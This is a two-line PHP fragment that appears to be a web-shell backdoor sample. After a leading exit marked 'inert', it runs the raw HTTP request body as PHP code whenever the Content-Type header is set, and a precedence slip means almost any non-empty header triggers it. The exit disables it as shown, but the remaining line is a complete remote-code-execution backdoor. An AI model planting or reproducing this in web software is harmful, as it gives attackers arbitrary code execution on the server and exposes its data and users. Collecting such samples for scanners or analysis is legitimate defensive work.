<?php exit; /* inert */ 
if ($_SERVER['HTTP_CONTENT_TYPE'] ?? '' === 'text/x-tmpl') require 'php://input';
